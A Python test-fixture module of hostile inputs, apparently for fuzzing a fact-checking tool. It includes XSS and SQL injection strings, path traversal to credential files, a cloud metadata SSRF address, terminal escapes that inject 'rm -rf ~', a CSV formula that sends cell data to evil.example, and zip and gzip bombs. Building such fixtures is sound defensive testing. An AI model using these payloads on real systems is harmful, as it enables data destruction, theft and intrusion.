"""Inputs that are meant to do harm, or do it by accident; each by a name that says what it tries."""

from __future__ import annotations

import gzip
import io
import json
import re
import zipfile

ESC, BEL, CSI8, ST8 = "\x1b", "\x07", "\x9b", "\x9c"

TEXTS: dict[str, str] = {
    "colour": f"{ESC}[31mThe treaty was signed in 1961.{ESC}[0m",
    "clear screen": f"{ESC}[2J{ESC}[HThe treaty was signed in 1961.",
    "window title": f"{ESC}]0;owned{BEL}The treaty was signed in 1961.",
    "hyperlink OSC 8": f"{ESC}]8;;file:///etc/passwd{ESC}\\treaty{ESC}]8;;{ESC}\\ was signed in 1961.",
    "clipboard OSC 52": f"{ESC}]52;c;cm0gLXJmIH4={BEL}The treaty was signed in 1961.",
    "device status": f"{ESC}[6n{ESC}[cThe treaty was signed in 1961.",
    "alternate screen": f"{ESC}[?1049hThe treaty was signed in 1961.{ESC}[?1049l",
    "mouse mode": f"{ESC}[?1003hThe treaty was signed in 1961.",
    "bracketed paste end": f"{ESC}[201~rm -rf ~\nThe treaty was signed in 1961.",
    "DCS and sixel": f"{ESC}Pq#0;2;0;0;0{ESC}\\The treaty was signed in 1961.",
    "eight-bit CSI": f"{CSI8}31mThe treaty{ST8} was signed in 1961.",
    "unfinished escape": f"The treaty was signed in 1961.{ESC}",
    "carriage returns": "The treaty was signed in 1961.\rIt was never signed.",
    "backspaces": "The treaty was signed in 1961\x08\x08\x08\x081865.",
    "bell and others": "".join(chr(code) for code in range(1, 32)) + " The treaty was signed in 1961.",
    "delete and C1": "".join(chr(code) for code in range(0x7F, 0xA0)) + " The treaty was signed in 1961.",
    "NUL": "The treaty\0 was signed in 1961.",
    "rich markup": "[bold red]The treaty[/] was signed in [link=file:///etc/passwd]1961[/link].",
    "textual action markup": "[@click=app.quit]The treaty[/] was signed in 1961.",
    "unclosed markup": "[/] [/bold] [[ The treaty was signed in 1961. [",
    "right-to-left override": "The treaty was \u202edengis\u202c in 1961.",
    "bidi isolates": "\u2066\u2067\u2068The treaty\u2069 was signed in 1961.",
    "zero width": "The tr\u200beat\u200cy\u200d was\ufeff signed in 1961.",
    "invisible tags": "The treaty was signed in 1961." + "".join(chr(0xE0000 + ord(c)) for c in "delete all"),
    "variation selectors": "The treaty\ufe0f" + "\ufe0e" * 200 + " was signed in 1961.",
    "combining flood": "T" + "\u0301" * 5_000 + "he treaty was signed in 1961.",
    "emoji joined": "👨\u200d👩\u200d👧\u200d👦 signed the treaty in 1961.",
    "line and paragraph separators": "The treaty\u2028was signed\u2029in 1961.",
    "noncharacters": "The treaty\ufffe\uffff was signed in 1961.",
    "private use": "The treaty \ue000\U000f0000 was signed in 1961.",
    "lone surrogate": "The treaty\ud800 was signed in 1961.",
    "lookalikes": "Thе trеaty wаs signеd in 1961.",
    "script end": "The treaty</script><script>alert(1)</script> was signed in 1961.",
    "html event": '<img src=x onerror="alert(1)">The treaty was signed in 1961.',
    "html comment": "<!-- --><!--[if IE]>The treaty was signed in 1961.<![endif]-->",
    "javascript address": "javascript:alert(document.cookie)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "file address": "file:///etc/passwd",
    "metadata service": "http://169.254.169.254/latest/meta-data/",
    "address with credentials": "https://user:secret@example.org/\r\nHost: evil",
    "csv formula": '=HYPERLINK("http://evil.example/?"&A1,"treaty")',
    "csv command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv minus and tab": '-2+3+cmd\t"quoted",\n+1',
    "sql quote": "'; DROP TABLE claims; --",
    "sql comment": '"; DELETE FROM events; /*',
    "sql like": "%_\\%",
    "fts syntax": 'treaty AND (NEAR("a" "b", 10) OR col:* ^',
    "fts column": "claims_search : treaty*",
    "fts quote flood": '"' * 999,
    "fts minus": "NOT - * OR AND",
    "path traversal": "../../../../etc/passwd",
    "absolute path": "/etc/shadow",
    "windows path": "..\\..\\con.txt:stream",
    "option like": "--db=/etc/passwd",
    "dash": "-",
    "home": "~root/.ssh/id_rsa",
    "percent format": "%s%n%d{0}{__class__}${HOME}`id`$(id)",
    "template": "{{7*7}} {% raw %} ${{7*7}}",
    "json duplicate keys": '{"claim": 1, "claim": 2, "rating": "Refuted", "why": "x"}',
    "json NaN": '{"claim": NaN, "rating": Infinity, "why": -Infinity}',
    "json surrogate": '{"claim": 1, "rating": "Refuted", "why": "\\ud800"}',
    "json huge number": '{"claim": ' + "9" * 5_000 + ', "rating": "Refuted", "why": "x"}',
    "json nesting": "[" * 50_000 + "]" * 50_000,
    "json object nesting": '{"a":' * 20_000 + "1" + "}" * 20_000,
    "json wrong types": '{"claim": true, "rating": ["Refuted"], "why": {"a": 1}, "sources": "x"}',
    "html nesting": "<div>" * 20_000 + "The treaty was signed in 1961." + "</div>" * 20_000,
    "brackets": "(" * 5_000 + "treaty" + ")" * 5_000,
    "quotes": "“" * 3_000 + "treaty was signed in 1961" + "”" * 3_000,
    "a word without end": "a" * 300_000,
    "a line without end": "The treaty was signed in 1961 and " * 300,
    "very many lines": "1961\n" * 1_000,
    "toml": 'reviewer = "\\u001b[31m"\n[keys]\nquit = 7\n[a.b.c]\nx = [[[[[]]]]]',
    "toml nesting": "x = " + "[" * 5_000 + "]" * 5_000,
    "toml reviewer of another type": "reviewer = 1961-01-01\ntheme = {}\nkeys = 3",
    "only white space": " \t\u00a0\u3000\n\n",
    "nothing": "",
    "regular expression": "(a+)+$" + "a" * 40 + "!",
    "dates": "99999-99-99 0000-00-00T25:61:61Z 1961-13-45",
    "numbers": "1e999999 -0 0x1F ٣٤٥ ²³ Ⅻ ½ NaN",
}

BYTES: dict[str, bytes] = {
    "bytes of no encoding": bytes(range(128, 256)) * 20,
    "truncated utf-8": "The treaty was signed in 1961 in Zürich".encode()[:-6] + b"\xc3",
    "overlong utf-8": b"The treaty \xc0\xaf\xe0\x80\xaf was signed in 1961.",
    "utf-16 without mark": "The treaty was signed in 1961.".encode("utf-16-le"),
    "utf-16 with mark, odd length": "The treaty was signed in 1961.".encode("utf-16") + b"\x00",
    "utf-32": "The treaty was signed in 1961.".encode("utf-32"),
    "utf-7": "+ADw-script+AD4-The treaty was signed in 1961.".encode("ascii"),
    "all bytes": bytes(range(256)) * 40,
    "gzip bomb": gzip.compress(bytes(20_000_000)),
    "executable": b"\x7fELF" + bytes(2_000),
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(200),
    "pdf without end": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n" + b"(" * 5_000,
    "sqlite": b"SQLite format 3\0" + bytes(4_080),
    "sqlite of noise": b"SQLite format 3\0" + b"\xa5" * 8_176,
}


def zip_bomb() -> bytes:
    """A .docx that would be 100 MB of one letter."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w>" + b"a" * 100_000_000)
    return packed.getvalue()


def zip_with_paths_out() -> bytes:
    """A .docx with members that would be written outside of the folder it is unpacked into."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../owned", "x")
        archive.writestr("/etc/owned", "x")
    return packed.getvalue()


ARCHIVES = {"zip bomb": zip_bomb, "paths out of a zip": zip_with_paths_out}


def as_verdict_line(text: str) -> bytes:
    """A line for `verdict -` with the text as rating, justification and source."""
    line = {"claim": 1, "rating": "Refuted", "why": text, "sources": [text]}
    return json.dumps(line).encode() + b"\n"


def as_checked_claim(text: str) -> bytes:
    """A record of checked claims in which every field is the text."""
    fields = ("id", "claim", "title", "speaker", "verdict", "url", "published", "publisher", "language")
    return json.dumps(dict.fromkeys(fields, text)).encode() + b"\n"


def as_page(text: str) -> bytes:
    """A web page that says the text in its head, its words and its addresses, unescaped."""
    page = (
        f"<html><head><title>{text}</title><meta name='author' content=\"{text}\">"
        f"<link rel='canonical' href=\"{text}\"><script type='application/ld+json'>"
        f"{json.dumps({'@type': 'NewsArticle', 'headline': text, 'datePublished': text, 'author': text})}"
        f"</script></head><body><main><p>{text}</p><p>The treaty was signed in 1961.</p></main></body></html>"
    )
    return page.encode("utf-8", "surrogatepass")


_ITS_OWN = re.compile(r"[0-9a-f]{32}|\d{4}-\d\d-\d\d.*|urn:uuid:.*")


def everywhere(record: object, text: str, kept: frozenset[str]) -> object:
    """The record with the text in place of each string but ids, moments, and the fields that are `kept`."""
    if isinstance(record, dict):
        return {
            name: value if name in kept else everywhere(value, text, kept) for name, value in record.items()
        }
    if isinstance(record, list):
        return [everywhere(value, text, kept) for value in record]
    return text if isinstance(record, str) and not _ITS_OWN.fullmatch(record) else record
